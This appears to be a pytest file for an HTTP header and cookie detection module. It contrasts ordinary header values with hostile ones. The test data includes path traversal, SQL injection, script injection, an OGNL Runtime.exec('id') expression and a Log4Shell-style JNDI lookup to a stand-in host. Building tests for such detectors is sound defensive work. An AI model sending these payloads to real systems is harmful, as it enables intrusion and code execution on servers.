"""Headers as fields: what a client's software writes by itself is left out, everything else is judged."""

import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from delicti.detect.contexts import Place
from delicti.detect.headers import MOST_COOKIES, MOST_HEADERS, of_cookies, of_headers

ORDINARY = {
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    "accept": "text/html, image/gif, *; q=.2, */*; q=.2",
    "Accept-Language": "de-DE,de;q=0.9, en;q=0.7",
    "sec-ch-ua": '"Chromium";v="124", "Not(A:Brand";v="24", " Not A;Brand";v="99"',
    "sec-ch-ua-mobile": "?0",
    "Content-Type": "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
    "content-type": "application/json; charset=utf-8",
    "If-None-Match": 'W/"5f3b-18c7a8e2f10"',
    "If-Modified-Since": "Wed, 21 Oct 2015 07:28:00 GMT",
    "Range": "bytes=0-1023, 2000-",
    "Origin": "http://192.0.2.7:3000",
    "X-Forwarded-For": "203.0.113.7, 2001:db8::1",
    "Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.SflKxwRJSM_eKK-F2Q",
    "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
    ":path": "/a?b=' or 1=1--",
    "HX-Current-URL": "http://127.0.0.1:8000/items?page=2",
    "X-Referer": "https://a.example/b?c=d",
}
ODD = {
    "Accept": "../../etc/passwd",
    "Accept-Language": "de' or '1'='1",
    "sec-ch-ua": '"a";v="<script>"',
    "Content-Type": "%{(#a='multipart/form-data').(@java.lang.Runtime@getRuntime().exec('id'))}",
    "If-None-Match": "1 or 1=1",
    "Origin": "https://a.example/${jndi:ldap://b.example}",
    "X-Forwarded-For": "1.1.1.1' or sleep(5)#",
    "Authorization": "Basic YWRtaW46YQ==",
    "X-Api-Version": "1",
    "X-Referer": "https://a.example/b?c=%27",
}


def fields(*pairs):
    return [(f.place, f.name, f.sent) for f in of_headers(json.dumps(pairs))]


@pytest.mark.parametrize("name", ORDINARY)
def test_a_value_of_its_headers_own_shape_says_nothing(name):
    assert fields([name, ORDINARY[name]]) == []


@pytest.mark.parametrize("name", ODD)
def test_any_other_value_is_a_field(name):
    assert fields([name, ODD[name]]) == [(Place.HEADER, name, ODD[name])]


def test_what_is_judged_in_a_column_is_left_out_once():
    assert fields(["User-Agent", "a"], ["Host", "b"], ["user-agent", "c"]) == [(Place.HEADER, "user-agent", "c")]


def test_cookies_stand_alone():
    assert fields(["cookie", 'a=1; b="2=3"; c; d=']) == [
        (Place.COOKIE, "a", "1"),
        (Place.COOKIE, "b", '"2=3"'),
        (Place.COOKIE, "", "c"),
    ]


def test_an_odd_name_is_a_field():
    assert fields(["X-${jndi:a}", ""]) == [(Place.HEADER, "X-${jndi:a}", "X-${jndi:a}")]


def test_the_escape_is_undone():
    assert fields(["X-A", "\\\\x\\x0a\\xff"]) == [(Place.HEADER, "X-A", "\\x\n\udcff")]


def test_nothing_behind_the_bounds_is_passed_over():
    many = of_headers(json.dumps([[f"X-{at}", "a"] for at in range(MOST_HEADERS)] + [["X-Last", "attack"]]))
    assert "attack" in many[-1].sent
    assert of_cookies("a=1;" * MOST_COOKIES + "b=attack")[-1].sent == "b=attack"


@pytest.mark.parametrize("name", ["Accept", "Content-Type", "sec-ch-ua", "Cache-Control", "If-None-Match", "Range"])
@pytest.mark.parametrize("part", ["; a=b ", ";", " ;", ",", '"', " ", "a/b;q=1, ", "a,"])
def test_a_hostile_value_takes_one_pass(name, part):
    begin = time.perf_counter()
    of_headers(json.dumps([[name, "a/b" + part * 100_000 + "'"]]))
    assert time.perf_counter() - begin < 5


@given(st.text() | st.lists(st.lists(st.text(), max_size=3)).map(json.dumps))
def test_no_text_makes_it_fail(headers):
    assert all(field.place in (Place.HEADER, Place.COOKIE) for field in of_headers(headers))
